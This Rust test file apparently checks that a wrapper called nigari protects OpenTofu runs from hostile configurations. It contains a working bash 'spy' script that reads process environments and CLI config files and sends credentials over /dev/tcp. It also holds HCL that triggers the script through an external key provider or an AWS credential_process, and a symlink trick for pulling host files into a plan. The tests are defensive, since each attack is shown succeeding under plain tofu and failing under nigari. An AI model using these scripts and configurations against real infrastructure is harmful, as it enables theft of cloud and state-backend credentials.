//! What the author of a configuration can make tofu run, and what it then finds.
//!
//! Rule: each attack is shown twice, by the same files: with tofu alone and a login as people write it, where it
//! succeeds, and with nigari, where it runs as well and finds nothing.

use std::fs;
use std::io::Read as _;
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use support::canary::Canary;
use support::search::Search;

use super::shelf::Shelf;
use super::world::World;
use super::{PLAIN, write};

/// Takes whatever is sent to it.
struct Attacker {
    port: u16,
    taken: Arc<Mutex<Vec<u8>>>,
}

impl Attacker {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let taken = Arc::new(Mutex::new(Vec::new()));
        let to = Arc::clone(&taken);
        // Ends with the test's process; nothing waits for it.
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut all = Vec::new();
                let _ = stream.set_read_timeout(Some(Duration::from_secs(30)));
                let _ = stream.read_to_end(&mut all);
                to.lock().unwrap().extend(all);
            }
        });
        Self { port, taken }
    }

    /// A program that sends everything which may lead to a credential.
    fn spy(&self) -> String {
        format!(
            "exec 3<>/dev/tcp/127.0.0.1/{}\necho '=== spy' >&3\nfor process in self $PPID; do\n  cat /proc/$process/environ >&3\n  \
             tr '\\0' '\\n' </proc/$process/environ | sed -n 's/^TF_CLI_CONFIG_FILE=//p' | while read -r file; do\n    cat \
             \"$file\" >&3\n    grep -o '\"/[^\"]*\"' \"$file\" | tr -d '\"' | while read -r named; do cat \"$named\" >&3; done\n  \
             done\ndone 2>/dev/null\necho '=== end' >&3\nexit 1\n",
            self.port
        )
    }

    fn says(&self) -> Vec<u8> {
        let begun = std::time::Instant::now();
        while begun.elapsed() < Duration::from_mins(1) {
            let taken = self.taken.lock().unwrap().clone();
            if String::from_utf8_lossy(&taken).contains("=== end") {
                return taken;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        panic!("the program of the configuration did not run: {:?}", self.taken.lock().unwrap().len());
    }
}

fn found(canary: &Canary, bytes: &[u8]) -> usize {
    let mut search = Search::new(std::slice::from_ref(canary));
    search.bytes("what the attacker got", bytes);
    search.hits().len()
}

/// Shows both sides of an attack whose program runs in `init`.
fn both_sides(files: impl Fn() -> Vec<(&'static str, String)>) {
    let Some(world) = World::start() else { return };
    let Some(shelf) = Shelf::start(&world.canaries[0].password) else { return };
    shelf.store(&world);
    let fill = |attacker: &Attacker, directory: &Path| {
        write(&directory.join("main.tf"), &shelf.main());
        write(&directory.join("spy.sh"), &attacker.spy());
        for (name, content) in files() {
            write(&directory.join(name), &content);
        }
    };
    let alone = tempfile::tempdir().unwrap();
    let (control, directory) = (Attacker::start(), alone.path().join("configuration"));
    fill(&control, &directory);
    let said = shelf.tofu_alone(alone.path(), &directory, "init");
    assert_eq!(said.code, Some(1), "{}", said.all());
    assert_ne!(found(&world.canaries[0], &control.says()), 0, "the control found nothing: {}", said.all());

    let (attacker, directory) = (Attacker::start(), world.path("attack"));
    fill(&attacker, &directory);
    world.apply(&directory, 1);
    assert_eq!(found(&world.canaries[0], &attacker.says()), 0, "the program found the credential");
    // The modules had come before the program ran.
    let run = world.run(&world.newest());
    assert!(run["receipts"][0]["modules"].to_string().contains("greeting"), "{run:#}");
    fs::remove_dir_all(alone.path()).unwrap();
}

#[test]
fn a_key_provider_of_the_configuration_runs_without_the_credential() {
    both_sides(|| {
        let text = "terraform {\n  encryption {\n    key_provider \"external\" \"spy\" {\n      command = [\"/bin/bash\", \
                    \"spy.sh\"]\n    }\n    method \"aes_gcm\" \"method\" {\n      keys = key_provider.external.spy\n    }\n    \
                    state {\n      method = method.aes_gcm.method\n    }\n  }\n}\n";
        vec![("encryption.tf", text.to_owned())]
    });
}

#[test]
fn a_credential_process_of_the_backend_runs_without_the_credential() {
    both_sides(|| {
        let text = "terraform {\n  backend \"s3\" {\n    bucket              = \"none\"\n    key                 = \"none\"\n    region \
                    = \"us-east-1\"\n    profile             = \"spy\"\n    shared_config_files = [\"aws.conf\"]\n    \
                    skip_metadata_api_check = true\n  }\n}\n";
        let profile = "[profile spy]\ncredential_process = /bin/bash spy.sh\n".to_owned();
        vec![("backend.tf", text.to_owned()), ("aws.conf", profile)]
    });
}

/// A program of the configuration, while tofu plans, puts a link where the agent looks for modules when it packs the plan.
#[test]
fn a_link_in_place_of_the_modules_takes_nothing_of_the_host_into_the_plan() {
    let Some(world) = World::start() else { return };
    let secret = world.path("host/secret");
    write(&secret, "a file of the host");
    let host = secret.parent().unwrap().display().to_string();
    // OpenTofu's protocol for such programs: a header, then the keys.
    let program = format!(
        "rm -rf .terraform/modules\nln -s '{host}' .terraform/modules\necho \
         '{{\"magic\":\"OpenTofu-External-Key-Provider\",\"version\":1}}'\nkey=$(printf '%032d' 7 | base64)\nprintf \
         '{{\"keys\":{{\"encryption_key\":\"%s\",\"decryption_key\":\"%s\"}},\"meta\":{{}}}}' $key $key\n"
    );
    let encryption = "terraform {\n  encryption {\n    key_provider \"external\" \"link\" {\n      command = [\"/bin/sh\", \
                      \"link.sh\"]\n    }\n    method \"aes_gcm\" \"method\" {\n      keys = key_provider.external.link\n    }\n    \
                      state {\n      method = method.aes_gcm.method\n    }\n  }\n}\n";
    let directory = world.configuration(&format!("{PLAIN}{encryption}"));
    write(&directory.join("link.sh"), &program);
    let id = world.begin(&directory, &[]);
    let run = world.wait(&id, "the end", |run| run["state"] == "errored" || run["state"] == "awaiting_approval");
    assert_eq!(run["state"], "errored", "what is in the link's place was packed: {run:#}");
    let message = run["failure"]["message"].as_str().unwrap();
    assert!(
        message.contains("cannot pack the plan") && message.contains("a link is where a directory should be"),
        "{run:#}"
    );
    world.wait_for_wipe();
    assert!(secret.exists());
}
